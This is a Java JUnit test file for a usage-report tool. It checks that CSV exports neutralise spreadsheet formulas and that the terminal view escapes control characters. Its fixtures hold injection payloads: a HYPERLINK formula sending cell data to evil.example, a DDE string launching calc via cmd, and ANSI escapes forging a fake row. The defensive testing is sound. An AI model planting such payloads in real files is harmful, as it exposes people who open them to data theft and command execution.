package dev.attribution.report;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.file.Path;
import java.time.LocalDate;
import java.time.ZoneOffset;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Recorded text (tenant ids, model names, features) is untrusted: it cannot forge rows or drive the
 * terminal, and a spreadsheet opening the CSV export does not run it as a formula.
 */
class HostileTextTest {
  static final LocalDate LAST = LocalDate.of(2026, 11, 28);
  static final String FORMULA_TENANT = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
  static final String ESCAPE_MODEL = "gpt-4o\u001b[2J\u001b[31m\nFAKE ROW $0.0000";

  @TempDir Path dir;

  private ReviewFixture reviewed(ReviewFixture f) throws Exception {
    f.review(ReviewOptions.builder().url(f.url).to(LAST).csvDir(dir.resolve("csv")));
    return f;
  }

  private ReviewFixture fixture() throws Exception {
    List<UsageRows.Call> calls = new ArrayList<>(SampleWeeks.calls(LAST));
    java.time.Instant at = LAST.atStartOfDay(ZoneOffset.UTC).toInstant().plusSeconds(60);
    calls.add(UsageRows.at(at).tenant(FORMULA_TENANT).cost("5"));
    calls.add(UsageRows.at(at).tenant("+cmd|' /C calc'!A0").cost("4"));
    calls.add(UsageRows.at(at).tenant("@SUM(1+1)").cost("3"));
    calls.add(UsageRows.at(at).tenant("\tTAB").cost("2"));
    calls.add(UsageRows.at(at).model("openai", ESCAPE_MODEL).cost("6"));
    return new ReviewFixture(dir).insert(calls);
  }

  @Test
  void csvCellsASpreadsheetWouldRunAsFormulasAreQuotedAsText() throws Exception {
    reviewed(fixture());
    List<List<String>> rows = ExportsTest.csv(dir.resolve("csv").resolve("by_tenant.csv"));
    List<String> tenants = new ArrayList<>();
    for (List<String> row : rows.subList(1, rows.size())) {
      tenants.add(row.get(0));
    }
    assertThat(tenants)
        .contains("'" + FORMULA_TENANT, "'+cmd|' /C calc'!A0", "'@SUM(1+1)", "'\tTAB")
        .allSatisfy(t -> assertThat(t).doesNotStartWith("=").doesNotStartWith("+"));
    // Numbers keep their sign: they are ours, not recorded text.
    List<List<String>> daily = ExportsTest.csv(dir.resolve("csv").resolve("by_model.csv"));
    assertThat(daily.get(0)).contains("model");
  }

  @Test
  void controlCharactersInRecordedTextAreEscapedInTheTerminalReview() throws Exception {
    ReviewFixture f = reviewed(fixture());
    String out = f.terminalText();
    assertThat(out).doesNotContain("\u001b").doesNotContain("\t");
    assertThat(out).contains("gpt-4o\\u001b[2J");
    for (String line : out.split("\n", -1)) {
      assertThat(line).doesNotStartWith("FAKE ROW");
    }
  }
}
